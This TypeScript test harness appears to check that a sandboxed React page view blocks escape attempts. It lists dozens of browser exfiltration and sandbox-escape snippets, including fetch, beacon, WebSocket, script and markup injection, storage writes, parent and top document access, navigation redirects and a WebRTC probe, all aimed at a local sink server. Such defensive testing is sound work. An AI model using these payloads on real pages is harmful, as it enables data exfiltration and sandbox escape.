/**
 * Ways out of a React page view, as JavaScript that is run in the component, in the frame's document as if it had got there,
 * and in a page without a sandbox, where each has to succeed: else its test would prove nothing.
 */
import { createSocket } from "node:dgram"
import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"

/** What a way out tries: the body of an async function of `sink`, an address that nothing may reach, and `stun`. */
export interface Attack {
  readonly name: string
  readonly code: string
  /** By what it is seen: a request at the sink, or what it returns. */
  readonly seen: "request" | "result"
}

const request = (name: string, code: string): Attack => ({ name, code, seen: "request" })
const result = (name: string, code: string): Attack => ({ name, code, seen: "result" })

const link = (rel: string, more = "") =>
  `const l = document.createElement("link"); l.rel = ${JSON.stringify(rel)}; ${more} l.href = sink + name; document.head.append(l)`

/** Those after which the document that they are run in is still there. */
export const attacks: ReadonlyArray<Attack> = [
  request("fetch", `fetch(sink + name, { mode: "no-cors" }).catch(() => {})`),
  request(
    "fetch-keepalive",
    `fetch(sink + name, { method: "POST", mode: "no-cors", keepalive: true, body: "x" }).catch(() => {})`
  ),
  request("xhr", `const x = new XMLHttpRequest(); x.open("GET", sink + name); x.send()`),
  request("websocket", `new WebSocket(sink.replace("http", "ws") + name)`),
  request("event-source", `new EventSource(sink + name)`),
  request("beacon", `navigator.sendBeacon(sink + name, "x")`),
  request("image", `new Image().src = sink + name`),
  request(
    "css-url",
    `const d = document.createElement("div"); d.style.cssText = "background: url(" + sink + name + "); width: 9px; height: 9px"; document.body.append(d)`
  ),
  request("stylesheet", link("stylesheet")),
  request("prefetch", link("prefetch")),
  request("preload", link("preload", `l.as = "script";`)),
  request("modulepreload", link("modulepreload")),
  request("script", `const s = document.createElement("script"); s.src = sink + name; document.head.append(s)`),
  request("import", `import(sink + name).catch(() => {})`),
  request("import-scripts", `importScripts(sink + name)`),
  request("worker", `new Worker(URL.createObjectURL(new Blob(["fetch('" + sink + name + "', { mode: 'no-cors' })"])))`),
  request(
    "srcdoc",
    `const f = document.createElement("iframe"); f.srcdoc = "<img src='" + sink + name + "'>"; document.body.append(f)`
  ),
  request("iframe", `const f = document.createElement("iframe"); f.src = sink + name; document.body.append(f)`),
  request("object", `const o = document.createElement("object"); o.data = sink + name; document.body.append(o)`),
  request("video", `const v = document.createElement("video"); v.src = sink + name; v.load()`),
  request("font", `const f = new FontFace("x", "url(" + sink + name + ")"); f.load().catch(() => {})`),
  request(
    "markup",
    `document.body.insertAdjacentHTML("beforeend", "<img src='x' onerror='fetch(\\"" + sink + name + "\\", {mode:\\"no-cors\\"})'>")`
  ),
  request("evaluated", `new Function("u", "fetch(u, { mode: 'no-cors' }).catch(() => {})")(sink + name)`),
  request(
    "form",
    `const f = document.createElement("form"); f.action = sink + name; f.target = "_blank"; f.method = "post"; document.body.append(f); f.submit()`
  ),
  request("window", `open(sink + name)`),
  request(
    "anchor",
    `const a = document.createElement("a"); a.href = sink + name; a.target = "_blank"; document.body.append(a); a.click()`
  ),
  request(
    "ping",
    `const a = document.createElement("a"); a.href = "#"; a.ping = sink + name; document.body.append(a); a.click()`
  ),
  result("cookie", `document.cookie = "leaked=1"; return document.cookie.includes("leaked")`),
  result("local-storage", `localStorage.setItem("leaked", "1"); return true`),
  result("session-storage", `sessionStorage.setItem("leaked", "1"); return true`),
  result(
    "indexed-db",
    `return await new Promise((yes, no) => { const r = indexedDB.open("leaked"); r.onsuccess = () => yes(true); r.onerror = no })`
  ),
  result("caches", `await caches.open("leaked"); return true`),
  result("service-worker", `await navigator.serviceWorker.register("/service-worker.js"); return true`),
  result("private-files", `await navigator.storage.getDirectory(); return true`),
  result("dialog", `return confirm("?")`),
  result("page", `parent.document.body.dataset.leaked = "1"; return true`),
  result("top", `top.document.body.dataset.leaked = "1"; return true`),
  result("address", `return typeof parent.location.href === "string"`),
  result(
    "fresh-realm",
    `const f = document.createElement("iframe"); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection === "function"`
  )
]

/** Those that take the consent of somebody who clicked, one at a time. */
export const consented: ReadonlyArray<Attack> = [
  result(
    "fullscreen",
    `await document.documentElement.requestFullscreen(); await document.exitFullscreen(); return true`
  ),
  result("clipboard", `await navigator.clipboard.writeText("leaked"); return true`),
  result("pointer-lock", `await document.body.requestPointerLock(); return true`)
]

/** Seen by packets: browsers hold them against no policy, which is why a component has no document. */
export const webRtc = `const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())`

/** An attack that sends a document elsewhere. */
interface Departure extends Attack {
  /** Whether a sandboxed frame leaves its place by it: its policy lets it get nowhere, and shows an error there. */
  readonly leaves: boolean
}

const departure = (leaves: boolean, name: string, code: string): Departure => ({ ...request(name, code), leaves })

/** Those that send the document elsewhere. */
export const departures: ReadonlyArray<Departure> = [
  departure(true, "location", `location.href = sink + name`),
  departure(true, "replace", `location.replace(sink + name)`),
  departure(true, "window-self", `open(sink + name, "_self")`),
  departure(
    true,
    "refresh",
    `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0; url=" + sink + name; document.head.append(m)`
  ),
  departure(
    false,
    "own-form",
    `const f = document.createElement("form"); f.action = sink + name; document.body.append(f); f.submit()`
  ),
  departure(
    true,
    "own-anchor",
    `const a = document.createElement("a"); a.href = sink + name; document.body.append(a); a.click()`
  ),
  departure(false, "top-location", `top.location.href = sink + name`),
  departure(false, "top-window", `open(sink + name, "_top")`)
]

/** The source of a function that runs attacks and resolves to the names of those whose result was theirs. */
export const running = (list: ReadonlyArray<Attack>, sink: string, stun: string): string => `(async () => {
  const sink = ${JSON.stringify(sink)}, stun = ${JSON.stringify(stun)}, did = []
  const within = (run) => Promise.race([run(), new Promise((_, no) => setTimeout(no, 2000))])
  const attempts = [${list.map(({ name, code }) => `[${JSON.stringify(name)}, async (name) => { ${code} }]`).join(",\n")}]
  await Promise.all(attempts.map(async ([name, run]) => {
    try { if (await within(() => run(name)) === true) did.push(name) } catch {}
  }))
  return did
})()`

export type Sink = Awaited<ReturnType<typeof makeSink>>

/** What stands outside: whatever comes here came out. */
export const makeSink = async () => {
  const hits = new Set<string>()
  const hear = (url: string | undefined) => void hits.add((url ?? "").split("?")[0]!.slice(1))
  const server: Server = createServer(({ url }, response) => {
    hear(url)
    response.setHeader("access-control-allow-origin", "*")
    response.setHeader(
      "content-type",
      url?.endsWith(".js") || url === "/import-scripts" ? "text/javascript" : "text/html"
    )
    response.end(url === "/control" ? "<!doctype html><title>Control</title><body>" : "")
  }).on("upgrade", ({ url }, socket) => {
    hear(url)
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  let packets = 0
  const udp = createSocket("udp4").on("message", () => void (packets += 1))
  await new Promise<void>((resolve) => udp.bind(0, "0.0.0.0", resolve))
  return {
    hits,
    packets: () => packets,
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    stunPort: udp.address().port,
    clear: () => {
      hits.clear()
      packets = 0
    },
    close: () => {
      server.closeAllConnections()
      server.close()
      udp.close()
    }
  }
}
